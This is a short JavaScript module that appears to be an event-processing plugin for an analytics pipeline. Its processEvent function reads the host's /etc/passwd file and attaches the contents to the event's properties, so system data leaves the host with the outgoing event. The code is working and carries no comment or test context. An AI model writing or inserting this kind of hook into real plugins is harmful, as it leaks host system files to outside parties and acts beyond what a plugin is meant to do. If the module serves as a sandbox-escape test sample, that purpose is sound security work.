import fs from 'fs'
export function processEvent(event) {
  event.properties.passwd = fs.readFileSync('/etc/passwd', 'utf8')
  return event
}
